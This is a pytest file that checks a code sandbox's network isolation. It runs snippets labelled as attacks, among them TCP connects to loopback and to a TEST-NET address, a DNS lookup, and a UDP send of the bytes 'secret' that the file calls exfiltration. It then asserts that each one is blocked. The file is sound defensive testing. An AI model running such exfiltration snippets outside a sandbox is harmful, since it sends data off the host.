"""Network attacks: the code under test has no network at all, not even the host's loopback."""

from __future__ import annotations

import os
import socket
import sys
from pathlib import Path

import pytest

from selfix_action.sandbox.isolation import Isolation, IsolationLevel
from selfix_action.sandbox.process import Limits, run_process, sandbox_env
from tests.helpers.isolation import RunAttack, assert_blocked, need_level

CONNECT = """
import socket
socket.create_connection(({host!r}, {port}), timeout=5).close()
"""


def _accepted(server: socket.socket) -> bool:
    try:
        conn, _ = server.accept()
    except BlockingIOError:
        return False
    conn.close()
    return True


def test_tcp_to_host_loopback_is_refused(
    run_attack: RunAttack, isolation: Isolation, listener: socket.socket, tmp_path: Path
) -> None:
    need_level(isolation, IsolationLevel.UNSHARE, "network isolation")
    port = listener.getsockname()[1]
    run, _ = run_attack(CONNECT.format(host="127.0.0.1", port=port))
    assert_blocked(run, "ConnectionRefusedError", "OSError")
    assert not _accepted(listener)

    # Control: the same connection without isolation reaches the listener, so the test can see a leak.
    control = run_process(
        [sys.executable, "-c", CONNECT.format(host="127.0.0.1", port=port)],
        cwd=tmp_path,
        env=sandbox_env(os.environ),
        limits=Limits(wall_seconds=30),
    )
    assert control.returncode == 0, control.stderr
    assert _accepted(listener)


def test_tcp_to_an_outside_address_fails_at_once(run_attack: RunAttack, isolation: Isolation) -> None:
    # 192.0.2.1 is TEST-NET-1 (RFC 5737): nothing answers there. Inside the namespace there is no route at
    # all, so connect() fails with ENETUNREACH before any packet exists; no control run, no traffic.
    need_level(isolation, IsolationLevel.UNSHARE, "network isolation")
    run, _ = run_attack(CONNECT.format(host="192.0.2.1", port=443))
    assert_blocked(run, "OSError")
    attack = run.results["tests/test_attack.py::test_attack"]
    # bwrap: an empty network namespace; landlock: seccomp refuses the AF_INET socket itself.
    assert "Network is unreachable" in attack.message or "Address family not supported" in attack.message
    assert attack.duration < 3  # failed immediately, did not wait for a timeout


def test_dns_lookup_fails(run_attack: RunAttack, isolation: Isolation) -> None:
    need_level(isolation, IsolationLevel.UNSHARE, "network isolation")
    run, _ = run_attack("import socket\nsocket.getaddrinfo('github.com', 443)\n")
    assert_blocked(run, "gaierror")


def test_udp_exfiltration_to_an_outside_address_fails(run_attack: RunAttack, isolation: Isolation) -> None:
    need_level(isolation, IsolationLevel.UNSHARE, "network isolation")
    attack = """
    import socket
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"secret", ("192.0.2.1", 53))
    """
    run, _ = run_attack(attack.replace("\n    ", "\n"))
    assert_blocked(run, "OSError")


@pytest.mark.slow
def test_tcp_to_host_loopback_is_refused_in_the_warm_worker_too(
    run_attack: RunAttack, isolation: Isolation, listener: socket.socket
) -> None:
    need_level(isolation, IsolationLevel.UNSHARE, "network isolation")
    port = listener.getsockname()[1]
    run, sandbox = run_attack(CONNECT.format(host="127.0.0.1", port=port), warm=True)
    assert_blocked(run, "ConnectionRefusedError", "OSError")
    assert not _accepted(listener)
    if getattr(sandbox, "warm_runs", 0) == 0:
        pytest.skip("the warm worker was not used here (cold run covered above)")


@pytest.mark.slow
def test_tcp_to_host_loopback_is_refused_in_the_hot_worker_too(
    run_attack: RunAttack, isolation: Isolation, listener: socket.socket
) -> None:
    need_level(isolation, IsolationLevel.UNSHARE, "network isolation")
    port = listener.getsockname()[1]
    run, _ = run_attack(CONNECT.format(host="127.0.0.1", port=port), hot=True)
    assert_blocked(run, "ConnectionRefusedError", "OSError")
    assert not _accepted(listener)
